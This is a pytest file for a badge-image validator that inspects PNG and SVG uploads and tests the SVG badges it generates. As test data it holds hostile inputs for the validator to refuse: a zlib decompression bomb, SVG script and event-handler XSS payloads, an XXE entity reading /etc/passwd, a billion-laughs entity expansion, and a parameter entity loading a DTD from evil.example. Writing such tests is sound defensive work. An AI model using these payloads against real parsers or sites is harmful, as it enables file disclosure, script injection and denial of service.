"""Badge image checks (PNG/SVG by content, limits, hostile input) and generated badge SVGs."""

from __future__ import annotations

import contextlib
import re
import struct
import time
import zlib
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from merito.errors import InvalidInput
from merito.formats.images import (
    PALETTES,
    ImageInfo,
    badge_initials,
    generate_badge_svg,
    inspect_image,
    read_png_chunks,
)

OB3 = Path(__file__).parents[2] / "fixtures" / "ob3-examples" / "validator-ob30"
OB2 = Path(__file__).parents[2] / "fixtures" / "ob2-examples" / "validator-ob20"
SVG = "http://www.w3.org/2000/svg"


def chunk(kind: bytes, body: bytes, *, crc: int | None = None) -> bytes:
    value = zlib.crc32(kind + body) if crc is None else crc
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", value)


def make_png(width: int = 2, height: int = 2, *, idat: bytes | None = None) -> bytes:
    """A valid RGBA PNG of the given size (all pixels transparent), built by hand."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    if idat is None:
        idat = zlib.compress((b"\0" + b"\0" * 4 * width) * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def svg(body: str, *, attrs: str = "", prolog: str = "") -> bytes:
    return (
        f'{prolog}<svg xmlns="{SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" '
        f'viewBox="0 0 10 10"{attrs}>{body}</svg>'
    ).encode()


def refused(data: bytes, match: str, **limits: int) -> None:
    with pytest.raises(InvalidInput, match=match):
        inspect_image(data, **limits)


# ------------------------------------------------------------------------------------- PNG


def test_small_png_is_accepted_with_its_dimensions() -> None:
    png = make_png(3, 5)
    assert inspect_image(png) == ImageInfo("image/png", 3, 5, len(png))


def test_spec_fixture_png_is_accepted() -> None:
    data = (OB3 / "simple-json.png").read_bytes()
    assert inspect_image(data) == ImageInfo("image/png", 981, 941, len(data))
    assert inspect_image((OB2 / "simple-badge.png").read_bytes()).width == 21


def test_png_over_the_byte_limit_names_both_sizes() -> None:
    png = make_png()
    refused(png + b"\0" * 3_200_000, r"image is 3\.2 MB, the limit is 512 KB")
    refused(png, r"image is \d+ bytes, the limit is 10 bytes", max_bytes=10)


def test_png_with_a_bad_crc_is_refused() -> None:
    png = bytearray(make_png())
    png[-20] ^= 0xFF  # inside the IDAT data
    refused(bytes(png), "chunk IDAT at byte 33 has a bad CRC")


@pytest.mark.parametrize("cut", [4, 8, 20, 33, 45, 50])
def test_truncated_png_is_refused(cut: int) -> None:
    png = make_png()
    refused(png[: len(png) - cut], "truncated|signature")


def test_huge_ihdr_is_refused_before_any_data_is_read() -> None:
    # 100 000 × 100 000 RGBA would inflate to 40 GB; the IDAT here is a real zlib bomb start.
    bomb = zlib.compress(bytes(50_000_000), 9)
    png = make_png(100_000, 100_000, idat=bomb)
    started = time.perf_counter()
    refused(png, r"PNG is 100000×100000 pixels, the limit is 16,777,216 pixels", max_bytes=10**8)
    assert time.perf_counter() - started < 0.5


def test_huge_ihdr_wins_over_later_damage() -> None:
    png = make_png(70_000, 70_000, idat=b"x")
    refused(png[:-6], "70000×70000 pixels")


def test_pixel_limit_is_configurable() -> None:
    refused(make_png(100, 100), "the limit is 9,999 pixels", max_pixels=9_999)
    assert inspect_image(make_png(100, 100), max_pixels=10_000).width == 100


@pytest.mark.parametrize(
    ("ihdr", "match"),
    [
        (struct.pack(">IIBBBBB", 0, 5, 8, 6, 0, 0, 0), "dimensions 0×5 are invalid"),
        (struct.pack(">IIBBBBB", 5, 5, 7, 6, 0, 0, 0), "colour type 6 with bit depth 7"),
        (struct.pack(">IIBBBBB", 5, 5, 8, 6, 1, 0, 0), "unknown compression"),
        (struct.pack(">IIBBBB", 5, 5, 8, 6, 0, 0), "IHDR is 12 bytes"),
    ],
)
def test_invalid_ihdr_is_refused(ihdr: bytes, match: str) -> None:
    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", b"x") + chunk(b"IEND", b"")
    refused(png, match)


def test_png_structure_errors() -> None:
    sig = b"\x89PNG\r\n\x1a\n"
    refused(sig + chunk(b"IDAT", b"") + chunk(b"IEND", b""), "must start with IHDR, not IDAT")
    refused(make_png() + b"junk", "4 bytes of trailing data after IEND")
    no_idat = make_png().replace(chunk(b"IDAT", zlib.compress(b"\0" * 18)), b"")
    refused(no_idat, r"no image data \(IDAT chunk\)")
    bad_type = make_png().replace(b"IDAT", b"ID4T")
    refused(bad_type, "is not four letters")


def test_chunks_are_read_in_order_with_offsets() -> None:
    png = make_png()
    chunks = read_png_chunks(png)
    assert [c.type for c in chunks] == [b"IHDR", b"IDAT", b"IEND"]
    assert chunks[0].offset == 8
    assert chunks[-1].end == len(png)


# ------------------------------------------------------------------------------------- SVG


def test_plain_svg_is_accepted_with_viewbox_dimensions() -> None:
    data = svg('<circle cx="5" cy="5" r="4" fill="url(#g)"/>')
    assert inspect_image(data) == ImageInfo("image/svg+xml", 10, 10, len(data))


def test_svg_width_and_height_win_over_viewbox() -> None:
    assert inspect_image(svg("", attrs=' width="64px" height="32"')).width == 64
    assert inspect_image(svg("", attrs=' width="100%"')).width == 10
    no_size = f'<svg xmlns="{SVG}"/>'.encode()
    assert inspect_image(no_size) == ImageInfo("image/svg+xml", None, None, len(no_size))


@pytest.mark.parametrize("name", ["simple-json.svg", "simple-jwt.svg", "simple-jwt_v1.svg"])
def test_spec_fixture_svgs_with_a_plain_doctype_are_accepted(name: str) -> None:
    assert inspect_image((OB3 / name).read_bytes()).width == 1000


@pytest.mark.parametrize(
    ("data", "match"),
    [
        (svg("<script>alert(1)</script>"), r"SVG contains a <script> element"),
        (
            svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">x</h:script>'),
            r"SVG contains a <script> element",
        ),
        (svg("<foreignObject><p>x</p></foreignObject>"), "a <foreignObject> element"),
        (svg("", attrs=' onload="alert(1)"'), r"<svg> has an event-handler attribute 'onload'"),
        (svg('<rect ONCLICK="x"/>'), "event-handler attribute 'ONCLICK'"),
        (svg('<image href="https://evil.example/x.png"/>'), "refers to 'https://evil.example"),
        (svg('<use xlink:href="file:///etc/passwd#x"/>'), "refers to 'file:///etc/passwd#x'"),
        (svg('<a href="javascript:alert(1)"><rect/></a>'), "refers to 'javascript:alert"),
        (svg('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>'), "data:image/svg"),
        (svg('<rect fill="url(https://x.example/p#g)"/>'), "refers to 'https://x.example"),
        (svg("<rect style=\"fill: url( '//x.example/a' )\"/>"), "refers to '//x.example/a'"),
        (svg("<style>@import url(#x);</style>"), "contains a CSS @import"),
        (svg("<style>rect { fill: url(http://x/y) }</style>"), "<style> element refers to"),
        (svg('<a><set attributeName="href" to="javascript:x"/></a>'), "animates the 'href'"),
        (svg('<animate attributeName="onbegin" to="x"/>'), "animates the 'onbegin'"),
        (svg("", prolog='<?xml-stylesheet href="http://x/s.css"?>'), "xml-stylesheet"),
        (f'<svg xmlns="{SVG}" viewBox="0 0 -1 4"/>'.encode(), "viewBox '0 0 -1 4' is not four"),
        (b"<html><body/></html>", "root element is 'html', it must be <svg>"),
        (b"<svg><rect/></svg>", "root element is 'svg', it must be <svg> in the SVG namespace"),
        (svg("<rect>"), "not well-formed XML"),
        (b"\x1f\x8b\x08\x00rest", r"compressed SVG \(\.svgz\)"),
        (b"GIF89a....", "neither PNG nor SVG"),
    ],
)
def test_unsafe_or_invalid_svg_is_refused(data: bytes, match: str) -> None:
    refused(data, match)


def test_fragment_and_raster_data_references_are_allowed() -> None:
    data = svg(
        '<defs><linearGradient id="g"/></defs><use href="#g"/>'
        '<image xlink:href="data:image/png;base64,iVBORw0KGgo="/>'
        '<rect style="fill:url(#g)"/>'
    )
    assert inspect_image(data).media_type == "image/svg+xml"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize("data", [BILLION_LAUGHS, XXE, PARAMETER_ENTITY])
def test_entity_declarations_are_refused_quickly(data: bytes) -> None:
    started = time.perf_counter()
    with pytest.raises(InvalidInput, match=r"declares an XML entity \(<!ENTITY>\)") as info:
        inspect_image(data)
    assert time.perf_counter() - started < 0.5
    assert "root:" not in str(info.value)


def test_doctype_with_internal_subset_is_refused() -> None:
    data = b'<!DOCTYPE svg [<!ATTLIST svg foo CDATA "x">]><svg xmlns="http://www.w3.org/2000/svg"/>'
    refused(data, "DOCTYPE with an internal subset")


def test_undeclared_entity_reference_is_refused() -> None:
    refused(svg("<text>&xxe;</text>"), "not well-formed XML: undefined entity")


# ------------------------------------------------------------------------------- hypothesis


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=400))
def test_random_bytes_raise_only_invalid_input(data: bytes) -> None:
    for candidate in (data, b"\x89PNG\r\n\x1a\n" + data, b"<svg" + data, b"<" + data):
        with contextlib.suppress(InvalidInput):
            inspect_image(candidate)


@settings(max_examples=300, deadline=None)
@given(st.integers(min_value=0), st.integers(min_value=0, max_value=255))
def test_any_single_byte_change_to_a_png_is_caught_or_harmless(position: int, value: int) -> None:
    png = bytearray(make_png(4, 4))
    index = position % len(png)
    png[index] = value
    try:
        info = inspect_image(bytes(png))
    except InvalidInput:
        return
    assert bytes(png) == make_png(4, 4)  # a change that got through must have been a no-op
    assert info.width == 4


# ------------------------------------------------------------------------- generated badges


def parse(data: bytes) -> ElementTree.Element:
    return ElementTree.fromstring(data)


def test_generated_badge_is_accessible_and_passes_inspection() -> None:
    data = generate_badge_svg(name="Data Analysis", subtitle="Merito Academy", seed="ach-1")
    assert inspect_image(data) == ImageInfo("image/svg+xml", 512, 512, len(data))
    root = parse(data)
    assert root.get("role") == "img"
    title = root.find(f"{{{SVG}}}title")
    desc = root.find(f"{{{SVG}}}desc")
    assert title is not None
    assert title.text == "Data Analysis"
    assert desc is not None
    assert desc.text == "Merito Academy"
    assert root.get("aria-labelledby") == f"{title.get('id')} {desc.get('id')}"
    texts = ["".join(t.itertext()) for t in root.iter(f"{{{SVG}}}text")]
    assert texts == ["Merito Academy", "DA", "Data Analysis"]
    assert b"http" not in data.replace(SVG.encode(), b"")  # no external font or asset


def test_generated_badge_is_deterministic_and_colour_follows_the_seed() -> None:
    one = generate_badge_svg(name="Teamwork", seed="seed-1")
    assert one == generate_badge_svg(name="Teamwork", seed="seed-1")
    fills = {
        re.search(rb'fill="(#[0-9a-f]{6})"', generate_badge_svg(name="Teamwork", seed=s))[1]  # type: ignore[index]
        for s in (f"seed-{i}" for i in range(40))
    }
    assert len(fills) >= 6


def test_generated_badge_escapes_hostile_names() -> None:
    name = '<script>alert("x")</script> & Co\x00\x07'
    data = generate_badge_svg(name=name, subtitle="</desc><script/>", seed="s")
    assert inspect_image(data).media_type == "image/svg+xml"
    root = parse(data)
    title = root.find(f"{{{SVG}}}title")
    assert title is not None
    assert title.text == '<script>alert("x")</script> & Co'
    assert b"<script" not in data


def test_long_names_wrap_to_two_lines_with_an_ellipsis() -> None:
    name = "Advanced Certificate in Applied Machine Learning for Healthcare Systems"
    root = parse(generate_badge_svg(name=name, seed="s"))
    lines = ["".join(t.itertext()) for t in root.iter(f"{{{SVG}}}text")][1:]
    assert len(lines) == 2
    assert all(len(line) <= 20 for line in lines)
    assert lines[0] == "Advanced Certificate"
    assert lines[1].endswith("…")


@pytest.mark.parametrize(
    ("name", "initials"),
    [
        ("Data Analysis", "DA"),
        ("Introduction to the History of Art", "IHA"),
        ("teamwork", "T"),
        ("The Art", "A"),
        ("Of", "O"),
        ("データ分析", "デ"),
        ("!!! ???", "★"),
    ],
)
def test_badge_initials(name: str, initials: str) -> None:
    assert badge_initials(name) == initials


def test_blank_name_is_refused() -> None:
    with pytest.raises(InvalidInput, match="needs a name"):
        generate_badge_svg(name="  ", seed="s")


def _luminance(hex_colour: str) -> float:
    def channel(c: int) -> float:
        s = c / 255
        return s / 12.92 if s <= 0.04045 else ((s + 0.055) / 1.055) ** 2.4

    r, g, b = (int(hex_colour[i : i + 2], 16) for i in (1, 3, 5))
    return 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b)


@pytest.mark.parametrize("palette", PALETTES)
def test_white_text_has_wcag_aa_contrast_on_every_palette(palette: tuple[str, str, str]) -> None:
    dark, light, _ = palette
    for background in (dark, light):
        ratio = 1.05 / (_luminance(background) + 0.05)
        assert ratio >= 4.5, (background, ratio)


@settings(max_examples=150, deadline=None)
@given(
    name=st.text(min_size=1, max_size=120).filter(lambda s: s.strip()),
    subtitle=st.none() | st.text(max_size=60),
    seed=st.text(max_size=20),
)
def test_any_generated_badge_passes_inspection(name: str, subtitle: str | None, seed: str) -> None:
    data = generate_badge_svg(name=name, subtitle=subtitle, seed=seed)
    assert inspect_image(data).width == 512
    title = parse(data).find(f"{{{SVG}}}title")
    assert title is not None
    expected = "".join(
        c for c in " ".join(name.split()) if (ord(c) >= 0x20 and c not in "\ufffe\uffff")
    )
    assert (title.text or "") == expected
